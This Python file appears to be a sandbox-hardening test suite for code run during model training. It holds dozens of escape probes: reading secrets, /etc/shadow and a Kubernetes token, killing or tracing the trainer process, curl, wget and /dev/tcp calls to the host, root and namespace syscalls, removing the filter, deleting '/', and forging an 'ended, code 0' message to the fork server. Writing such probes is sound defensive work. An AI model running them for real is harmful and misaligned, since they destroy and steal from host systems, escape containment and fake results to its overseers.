"""Attacks on what is outside: secrets, files, processes, the network, the kernel."""

SYSCALL = """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
X86 = os.uname().machine == 'x86_64'
def call(x86, arm, *args):
    got = libc.syscall(ctypes.c_long(x86 if X86 else arm),
                       *(ctypes.c_long(a) if isinstance(a, int) else a for a in args))
    if got < 0: print(os.strerror(ctypes.get_errno()))
    return got
def want(result):
    if result >= 0: print('WON', result)
"""
TRY = """
def attempt(work):
    try: found = work()
    except BaseException as error: print(f'{type(error).__name__}: {error}'[:150]); return
    print('WON', str(found)[:100])
"""

ATTACKS = {
    "secrets in the environment": """
import os
print(*sorted(os.environ))
print('WON' if set(os.environ) - {'PATH', 'HOME', 'LANG', 'PYTHONHASHSEED', 'PYTHONDONTWRITEBYTECODE', 'LC_CTYPE'}
      else 'nothing there')
""",
    "secrets in the first process's environment": TRY
    + """
print(open('/proc/1/environ', 'rb').read())
print(open('/proc/self/environ', 'rb').read())
""",
    "a secret file by its path": TRY + "attempt(lambda: open('@FILE@').read())",
    "password and key files": TRY
    + """
import os
for path in ('/etc/passwd', '/etc/shadow', os.path.join('/root', '.ssh'), os.path.join('/root', '.netrc'),
             '/etc/hostname', '/var/run/secrets/kubernetes.io/serviceaccount/token', '/run/docker.sock'):
    attempt(lambda: os.stat(path))
""",
    "other people's folders": TRY
    + """
import os
for path in ('/home', '/work', '/mnt', '/srv', '/opt', '/var', '/sys', '/run', '/boot'):
    attempt(lambda: os.listdir(path))
""",
    "other software's files below /usr": TRY
    + """
import os, sys

def others(path):
    names = set(os.listdir(path)) - {'zoneinfo'}  # time zones are meant to be readable
    if not names: raise FileNotFoundError(path)
    return names

for path in ('/usr/src', '/usr/games', '/usr/etc', '/usr/share/doc', '/usr/local/src', '/usr/local/share',
             '/usr/local/etc', os.path.join(sys.base_prefix, 'share'), os.path.join(sys.base_prefix, 'etc')):
    attempt(lambda: others(path))
""",
    "importing what is installed": TRY
    + """
import glob, os, sys
lib = os.path.dirname(os.__file__)
for path in (lib + '/site-packages', lib + '/dist-packages', *glob.glob('/usr/lib/python3*/*-packages'),
             *glob.glob('/usr/local/lib/python3*/*-packages')):
    sys.path.append(path)
    if os.path.isdir(path) and os.listdir(path): print('WON', path)
for name in ('pip', 'setuptools', 'pydantic', 'torch', 'rlhf_core'):
    attempt(lambda: __import__(name))
""",
    "the trainer's folder": TRY + "import os\nattempt(lambda: os.listdir('@FOLDER@'))",
    "a symbolic link to a secret": TRY
    + """
import os
os.symlink('@FILE@', 'link')
attempt(lambda: open('link').read())
attempt(lambda: open('link', 'w').write('overwritten'))
""",
    "a hard link and a new mode": TRY
    + """
import os
attempt(lambda: os.link('/etc/ld.so.cache', 'hard'))
attempt(lambda: os.chmod('/usr', 0o777))
attempt(lambda: os.chown('/tmp', 0, 0))
""",
    "paths through /proc": TRY
    + """
import os
for path in ('/proc/1/root/@FILE@', '/proc/self/root/@FILE@', '/proc/1/cwd/../@FILE@', '/proc/self/cwd/../../@FILE@',
             '/proc/@PID@/environ', os.path.join('/proc/@PID@/root', 'etc/passwd'), '/proc/kcore', '/proc/kmsg'):
    attempt(lambda: open(path, 'rb').read(100))
print(os.listdir('/proc/self/fd'))
""",
    "writing to the system": TRY
    + """
import os, sys
for path in ('/evil', '/usr/evil', '/usr/bin/evil', '/etc/evil', '/dev/evil', sys.base_prefix + '/evil',
             '/proc/evil', '@FOLDER@/evil'):
    attempt(lambda: open(path, 'w').write('x'))
""",
    "removing the system": TRY
    + """
import shutil, os
attempt(lambda: os.unlink(os.__file__))
attempt(lambda: os.rename('/usr', '/usr2'))
shutil.rmtree('/', ignore_errors=True)
attempt(lambda: os.rmdir('/usr'))
""",
    "kernel settings": TRY
    + """
for path in ('/proc/sys/kernel/core_pattern', '/proc/sys/kernel/hostname', '/proc/sysrq-trigger',
             '/sys/fs/cgroup/cgroup.procs', '/proc/sys/vm/drop_caches', '/proc/sys/user/max_user_namespaces'):
    attempt(lambda: open(path, 'w').write('1'))
""",
    "paths of the host in lists of mounts and command lines": """
import os
for name in ('mountinfo', 'mounts', 'mountstats', 'cmdline'):
    try: text = open(f'/proc/1/{name}').read()
    except OSError as error: print(error); continue
    print('WON' if '/' in text else 'nothing there')
""",
    "watching and locking files of the host": SYSCALL
    + """
file = os.open(os.__file__, os.O_RDONLY)
want(call(294, 26, 0))
want(call(73, 32, file, 2))
want(call(72, 25, file, 1024, 0))
want(call(72, 25, os.open(os.path.dirname(os.__file__), os.O_RDONLY), 1026, 1))
""",
    "killing the parent": """
import os, signal
for pid in (os.getppid(), @PID@, @TRAINER@):
    try: os.kill(pid, signal.SIGKILL); print('killed', pid, 'WON' if pid else '')
    except OSError as error: print(pid, error)
""",
    "killing by process handle": SYSCALL + "want(call(434, 434, @PID@, 0))",
    "tracing the parent": SYSCALL + "want(call(101, 117, 16, @PID@, 0, 0))\nwant(call(101, 117, 0, 0, 0, 0))",
    "reading another process's memory": SYSCALL
    + """
want(call(310, 270, @PID@, 0, 0, 0, 0, 0))
want(call(312, 272, os.getpid(), @PID@, 0, 0, 0))
try: open('/proc/@PID@/mem', 'rb').read(1); print('WON')
except OSError as error: print(error)
""",
    "stealing a descriptor of another process": SYSCALL + "want(call(438, 438, 3, 0, 0))",
    "inherited descriptors": """
import os
for number in range(3, 1024):
    try: name = os.readlink(f'/proc/self/fd/{number}')
    except OSError: continue
    print(number, name, '' if name.startswith('/proc/') else 'WON')
""",
    "a TCP connection to the host": TRY
    + """
import socket
attempt(lambda: socket.create_connection(('127.0.0.1', @PORT@), 1))
""",
    "a TCP server": TRY + "import socket\nattempt(lambda: socket.create_server(('0.0.0.0', 0)))",
    "name look-up and UDP": TRY
    + """
import socket
attempt(lambda: socket.getaddrinfo('example.org', 80))
attempt(lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', ('127.0.0.1', @PORT@)))
""",
    "raw, packet and netlink sockets": TRY
    + """
import socket
for family, kind in ((socket.AF_INET, socket.SOCK_RAW), (socket.AF_PACKET, socket.SOCK_RAW),
                     (socket.AF_NETLINK, socket.SOCK_RAW), (40, socket.SOCK_STREAM)):
    attempt(lambda: socket.socket(family, kind))
""",
    "an abstract socket of the host": TRY
    + """
import socket
def connect():
    s = socket.socket(socket.AF_UNIX); s.connect('\\0@ABSTRACT@'); return s
attempt(connect)
""",
    "programs that use the network": """
import shutil, subprocess
place = '127.0.0.1:@PORT@'
for command in (['curl', '-m', '1', 'http://' + place], ['wget', '-T', '1', '-qO-', 'http://' + place],
                ['bash', '-c', 'echo x > /dev/tcp/127.0.0.1/@PORT@ && echo WON']):
    if shutil.which(command[0]):
        done = subprocess.run(command, capture_output=True, text=True)
        print(done.stdout, done.stderr[-100:])
""",
    "becoming root": TRY
    + """
import os
attempt(lambda: os.setuid(0))
attempt(lambda: os.setresgid(0, 0, 0))
attempt(lambda: os.setgroups([0]))
attempt(lambda: os.seteuid(0))
""",
    "a set-user-ID program of its own": """
import os, shutil, subprocess
shutil.copy('/usr/bin/id', 'id')
os.chmod('id', 0o6755)
for command in (['./id', '-u'], ['/usr/bin/su', '-c', 'id -u'], ['/usr/bin/newgrp'],
                ['/usr/bin/sudo', '-n', 'id', '-u']):
    if os.path.exists(command[0]):
        done = subprocess.run(command, capture_output=True, text=True, stdin=subprocess.DEVNULL)
        print(command[0], done.stdout.strip(), done.stderr.strip()[:80])
        if done.stdout.strip() == '0': print('WON')
""",
    "capabilities": SYSCALL
    + """
want(call(157, 167, 47, 2, 21, 0, 0))
print([line for line in open('/proc/self/status') if line.startswith('CapEff')])
header = ctypes.create_string_buffer((0x20080522).to_bytes(4, 'little') + bytes(4))
want(call(126, 91, header, ctypes.create_string_buffer(b'\\xff' * 24)))
""",
    "a new user namespace": SYSCALL
    + """
want(call(272, 97, 0x10000000))
want(call(56, 220, 0x10000000 | 17, 0, 0, 0, 0))
""",
    "a new user namespace through clone3": SYSCALL
    + """
flags, signal = (0x10000000).to_bytes(8, 'little'), (17).to_bytes(8, 'little')
arguments = ctypes.create_string_buffer(flags + bytes(24) + signal + bytes(48))
want(call(435, 435, arguments, 88))
""",
    "another process's namespace": SYSCALL
    + """
for kind in ('user', 'mnt', 'net', 'pid'):
    try: want(call(308, 268, os.open(f'/proc/1/ns/{kind}', os.O_RDONLY), 0))
    except OSError as error: print(error)
""",
    "mounting": SYSCALL
    + """
want(call(165, 40, b'none', b'/tmp', b'tmpfs', 0, 0))
want(call(165, 40, b'/', b'/tmp', 0, 4096, 0))
want(call(165, 40, b'none', b'/', 0, 32 | 4096, 0))
want(call(430, 430, b'tmpfs', 0))
want(call(428, 428, -100, b'/', 1))
want(call(442, 442, -100, b'/', 0x8000, 0, 0))
""",
    "unmounting": SYSCALL
    + """
want(call(166, 39, b'/proc', 2))
want(call(155, 41, b'.', b'.'))
want(call(161, 51, b'/tmp'))
""",
    "leaving a chroot the classic way": TRY
    + """
import os
os.mkdir('jail')
root = os.open('/', os.O_RDONLY)
attempt(lambda: os.chroot('jail'))
os.fchdir(root)
for _ in range(64): os.chdir('..')
attempt(lambda: open('.' + '@FILE@').read())
""",
    "opening files by handle": SYSCALL + "want(call(304, 265, -100, ctypes.create_string_buffer(136), 0))",
    "device files": TRY
    + """
import os, stat
attempt(lambda: os.mknod('disk', 0o666 | stat.S_IFBLK, os.makedev(8, 0)))
for path in ('/dev/sda', '/dev/vda', '/dev/mem', '/dev/kmsg', '/dev/kvm', '/dev/fuse', '/dev/tty', '/dev/ptmx',
             '/dev/console'):
    attempt(lambda: open(path, 'rb'))
""",
    "typing into the terminal": SYSCALL
    + """
for number in range(3):
    want(call(16, 29, number, 0x5412, b'x'))
    want(call(16, 29, number, 0x541C, b'x'))
""",
    "the kernel's keyring": SYSCALL
    + """
want(call(248, 217, b'user', b'name', b'x', 1, -3))
want(call(250, 219, 0, -3, 1))
""",
    "io_uring": SYSCALL
    + """
want(call(425, 425, 8, ctypes.create_string_buffer(120)))
want(call(206, 0, 8, ctypes.create_string_buffer(8)))
""",
    "bpf programs": SYSCALL + "want(call(321, 280, 0, ctypes.create_string_buffer(128), 128))",
    "performance counters": SYSCALL + "want(call(298, 241, ctypes.create_string_buffer(128), 0, -1, -1, 0))",
    "userfaultfd": SYSCALL
    + """
want(call(323, 282, 1))
try: open('/dev/userfaultfd'); print('WON')
except OSError as error: print(error)
""",
    "kernel modules and kexec": SYSCALL
    + """
want(call(175, 105, b'', 0, b''))
want(call(313, 273, 3, b'', 0))
want(call(246, 104, 0, 0, 0, 0))
""",
    "execution personality": SYSCALL + "want(call(135, 92, 0x0040000))",
    "reboot, clock and host name": SYSCALL
    + """
want(call(169, 142, 0xfee1dead, 672274793, 0x1234567, 0))
want(call(227, 112, 0, ctypes.create_string_buffer(16)))
want(call(170, 161, b'evil', 4))
""",
    "system calls of another architecture": """
import ctypes, mmap, os
if os.uname().machine == 'x86_64':
    page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    page.write(bytes.fromhex('b814000000cd80c3'))  # mov eax, 20 (i386 getpid); int 0x80; ret
    code = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(page)))
    print('WON', code())
""",
    "system calls of the x32 interface": """
import ctypes, os
if os.uname().machine == 'x86_64':
    print('WON', ctypes.CDLL(None).syscall(ctypes.c_long(0x40000000 + 39)))
""",
    "taking the filter off": SYSCALL
    + """
libc.prctl(22, 0, 0, 0, 0)
want(call(272, 97, 0x20000))
libc.prctl(38, 0, 0, 0, 0)
want(call(41, 198, 2, 1, 0))
""",
    "the fork server's frames and objects": """
import gc, os, sys
frame = sys._getframe()
while frame:
    for value in frame.f_locals.values():
        control = getattr(value, 'control', None)
        try: control.send(b'{"why": "ended", "parts": [{"code": 0}]}'); print('WON')
        except (AttributeError, OSError) as error: print(type(error).__name__)
    frame = frame.f_back
for number in range(3, 64):
    try: os.write(number, b'{"why": "ended", "parts": [{"code": 0}]}'); print('WON', number)
    except OSError: pass
""",
}
